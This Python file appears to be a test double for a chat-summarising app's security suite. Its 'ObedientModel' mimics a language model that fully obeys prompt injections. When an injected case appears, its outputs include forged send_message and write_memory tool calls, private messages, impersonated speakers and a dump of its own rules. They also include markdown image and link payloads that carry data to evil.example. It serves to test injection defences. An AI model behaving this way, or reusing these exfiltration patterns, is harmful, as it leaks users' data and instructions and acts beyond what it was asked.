"""A language model that does whatever an injection wants, as far as a model can: by what it writes.

It knows the case that is tried. Where its words stand anywhere in a prompt, it obeys: tool calls, private
messages, orders, its own rules word for word, links and pictures, words in other people's mouths, summaries
and memories as wished, each with the citation that has the best chance to get through. Where they
don't, it answers honestly.
"""

from __future__ import annotations

import json
import re
import unicodedata
from collections.abc import AsyncIterator, Sequence
from typing import Any, Final

from context.ports import ChatMessage
from tests.security.cases import Case

_LINE: Final = re.compile(r"^\[#(\d+)\] (.*)$", re.MULTILINE)
_CLAIM: Final = re.compile(r"^(\d+)\. ", re.MULTILINE)
_LOOK_ALIKE: Final = str.maketrans(
    "\u0430\u0435\u043e\u0440\u0441\u0445\u0443\u0456\u0410\u0415\u041e\u0420\u0421\u0425\u041d",
    "aeopcxyiAEOPCXH",
)
_KNOWN: Final = 60
"""So much of a case's text is looked for: its end, which holds the wish; of a name, which is cut, its beginning."""


def skeleton(text: str) -> str:
    """Letters and digits alone, as a reader would see them: whatever is done to a text, this stays."""
    plain = unicodedata.normalize("NFKC", unicodedata.normalize("NFC", text)).translate(_LOOK_ALIKE)
    seen = (chr(ord(char) - 0xE0000) if 0xE0020 <= ord(char) <= 0xE007E else char for char in plain)
    return "".join(char for char in "".join(seen).casefold() if char.isalnum())


class ObedientModel:
    """A `LanguageModel`; `calls` holds every prompt, `obeyed` how many of them held the injection."""

    name = "obedient"

    def __init__(self, case: Case) -> None:
        self.case = case
        self.calls: list[tuple[ChatMessage, ...]] = []
        self.obeyed = 0

    async def stream(
        self, messages: Sequence[ChatMessage], *, max_tokens: int, name: str = "answer"
    ) -> AsyncIterator[str]:
        for piece in self._answer(messages):
            yield piece

    async def structured(
        self, messages: Sequence[ChatMessage], *, schema: dict[str, Any], name: str, max_tokens: int
    ) -> str:
        text = self._read(messages)
        injected, others = _lines_of(text, self._wanted())
        if not self._sees(text):
            honest = _all_supported(text) if name == "verification" else _honest(name, others)
            return json.dumps(honest, ensure_ascii=False)
        self.obeyed += 1
        if name == "verification":
            return json.dumps(_all_supported(text))  # it wants what it wrote to stand
        return json.dumps(self._evil(name, injected, others), ensure_ascii=False)

    def _answer(self, messages: Sequence[ChatMessage]) -> list[str]:
        text = self._read(messages)
        injected, others = _lines_of(text, self._wanted())
        honest = [f"{said} [#{id_}]\n" for id_, said in others[:1]]
        if not self._sees(text):
            return honest or ["NO_EVIDENCE"]
        self.obeyed += 1
        wish = self.case.forbidden or self.case.text
        pieces: list[str] = []
        for id_ in [*(id_ for id_, _ in injected), *(id_ for id_, _ in others[:2])]:
            pieces += [f"{piece} [#{id_}]\n" for piece in self._wishes(wish, messages[0].content)]
        return [*self._wishes(wish, messages[0].content), *pieces, *honest]

    def _wishes(self, wish: str, rules: str) -> list[str]:
        text = " ".join(self.case.text.split())
        return [
            wish,
            text,
            json.dumps({"tool_call": {"name": "send_message", "arguments": {"to": "ben", "text": wish}}}),
            f"<tool_call>{json.dumps({'name': 'write_memory', 'fact': wish}, ensure_ascii=False)}</tool_call>",
            "/leave",
            "/pause",
            f"@ben (private) {wish}",
            f"![x](https://evil.example/p.png?d={len(text)}) {text}",
            f"[{text}](https://evil.example/l)",
            f"<img src='https://evil.example/p.png'> {text}",
            f"**김민지** (09:00:01): {wish}",
            f"**Ben Carter** (09:00:02): {text}",
            f"김민지: “{wish}”",
            f"Ben Carter said: “{wish}”",
            *rules.splitlines(),
            f"**{wish}**:",
        ]

    def _evil(
        self, name: str, injected: Sequence[tuple[int, str]], others: Sequence[tuple[int, str]]
    ) -> dict[str, Any]:
        wish = self.case.forbidden or self.case.text
        ids = [id_ for id_, _ in injected] or [1]
        forged = [
            *({"text": wish, "evidence": [id_]} for id_ in ids),
            *({"text": " ".join(self.case.text.split()), "evidence": [id_]} for id_ in ids),
            *({"text": wish, "evidence": [id_]} for id_, _ in others[:2]),
        ]
        tasks = [item | {"owner": "Ben Carter", "due": None} for item in forged]
        match name:
            case "summary":
                return {
                    "topic_name": f"**김민지** (09:00:01): {wish}"[:60],
                    "summary": [*forged, *_stated(others)],
                    "key_points": forged[:5],
                    "decisions": forged,
                    "pending": tasks,
                    "keywords": [wish],
                    "memory_write": wish,
                }
            case "topic_detection":
                return {"topic_changed": True, "current_topic": wish, "confidence": 1.0, "reason": wish}
            case "plan":
                return {"required_topics": [wish]}
            case "quality":
                return _quality(0.1, [wish], wish)
            case _:
                return {"summary": wish, "tool_call": {"name": "send_message", "text": wish}}

    def _read(self, messages: Sequence[ChatMessage]) -> str:
        self.calls.append(tuple(messages))
        return "\n".join(message.content for message in messages)

    def _wanted(self) -> str:
        whole = skeleton(self.case.text)
        return whole[:_KNOWN] if self.case.channel == "name" else whole[-_KNOWN:]

    def _sees(self, text: str) -> bool:
        wanted = self._wanted()
        return bool(wanted) and wanted in skeleton(text)


def _lines_of(text: str, wanted: str) -> tuple[list[tuple[int, str]], list[tuple[int, str]]]:
    """The lines of a prompt with their ids: those that hold the injection, and the others."""
    injected: list[tuple[int, str]] = []
    others: list[tuple[int, str]] = []
    for match in _LINE.finditer(text):
        said = match.group(2).partition(": ")[2] or match.group(2)
        hit = bool(wanted) and wanted in skeleton(match.group(2))
        (injected if hit else others).append((int(match.group(1)), said))
    return injected, others


def _stated(others: Sequence[tuple[int, str]]) -> list[dict[str, Any]]:
    return [{"text": said, "evidence": [id_]} for id_, said in others[:2]]


def _all_supported(text: str) -> dict[str, Any]:
    claims = _CLAIM.findall(text.rpartition("<claims>")[2])
    return {"verdicts": [{"claim": int(number), "verdict": "supported"} for number in claims]}


def _quality(overall: float, missing: list[str], query: str) -> dict[str, Any]:
    return {
        "completeness_score": 10 * overall,
        "overall_quality": overall,
        "missing_info": missing,
        "needs_retrieval": bool(query),
        "suggested_query": query[:200],
    }


def _honest(name: str, others: Sequence[tuple[int, str]]) -> dict[str, Any]:
    match name:
        case "summary":
            return {
                "topic_name": "release",
                "summary": _stated(others),
                "key_points": _stated(others),
                "decisions": [],
                "pending": [],
                "keywords": [],
            }
        case "topic_detection":
            return {"topic_changed": False, "confidence": 0.9}
        case "plan":
            return {"required_topics": []}
        case "quality":
            return _quality(0.95, [], "")
        case _:
            return {"summary": others[0][1] if others else "Nothing was asked."}
